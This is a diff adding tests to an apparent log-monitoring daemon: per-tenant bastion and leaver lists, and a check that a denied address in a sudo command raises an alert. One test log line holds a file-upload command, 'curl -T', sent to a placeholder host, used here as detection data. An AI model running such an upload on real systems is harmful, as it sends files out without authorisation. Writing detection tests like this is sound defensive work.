@@ -132,3 +132,32 @@ def test_a_list_that_never_was_right_is_an_alert(tmp_path):
         assert alert["yushi"]["alert"]["severity"] == "high"
         assert alert["yushi"]["alert"]["reason"].endswith("; the list is left out")
         assert "WARN" in daemon.yushi("status").text
+
+
+def test_an_entry_holds_for_the_logs_of_its_tenants(tmp_path):
+    """The bastion of one unit is passed by in that one alone, and who has left one may work in another."""
+    bastions = tmp_path / "bastions.csv"
+    bastions.write_text("host,address,tenants\nb-01,10.0.0.10,finance\n")
+    config = (f"tenants: [{{name: finance, match: {{cidr: [127.0.0.2/32]}}}}, {{name: health, match: {{cidr: [127.0.0.3/32]}}}}]\n"
+              f"detect: {{lists: {{bastions: {bastions}, leavers: [{{account: wang, tenants: health}}]}}}}\n")
+    with Daemon(tmp_path / "d", config) as daemon:
+        wait(lambda: readings(daemon), "for the first reading")
+        assert readings(daemon) == ["lists were read: bastions: b-01 address=10.0.0.10 tenants=finance is new; leavers: wang tenants=health is new"]
+        for tenant, source in (("finance", "127.0.0.2"), ("health", "127.0.0.3")):
+            daemon.send_tcp([login("wang", "10.20.1.11"), login("wu", "10.20.1.11")], source=source)
+            wait(lambda: len(daemon.search("*", "--tenant", tenant)) == 2, "for the logins")
+        wait(lambda: len(alerts(daemon, ROUND)) == 2 and alerts(daemon, LEAVER), "for what they say")
+        told = alerts(daemon, ROUND) + alerts(daemon, LEAVER)
+        assert sorted((a["rule"]["id"], a["organization"]["name"]) for a in told) == [(LEAVER, "health"), (ROUND, "finance"), (ROUND, "finance")]
+        for alert in told:
+            said = daemon.yushi("alerts", "verify", alert["yushi"]["alert"]["id"])
+            assert said.code == 0 and "the lists of then" in said.text, said.text + said.err
+
+
+def test_a_denied_address_in_a_command_is_told(tmp_path):
+    with Daemon(tmp_path / "d", "detect: {lists: {deny_addresses: [198.51.100.99]}}\n") as daemon:
+        for command in ("/usr/bin/curl -T x http://198.51.100.99/", "/usr/sbin/iptables -A INPUT -s 198.51.100.99 -j DROP"):
+            daemon.send_tcp([f"<86>1 - web-01 sudo 811 - - lin : TTY=pts/0 ; PWD=/home/lin ; USER=root ; COMMAND={command}"])
+        wait(lambda: len(daemon.search("process.command_line: *")) == 2, "for the commands")
+        (alert,) = wait(lambda: alerts(daemon, "list.denied"), "for the address")
+        assert "curl" in alert["yushi"]["alert"]["reason"] and alert["yushi"]["alert"]["severity"] == "high"
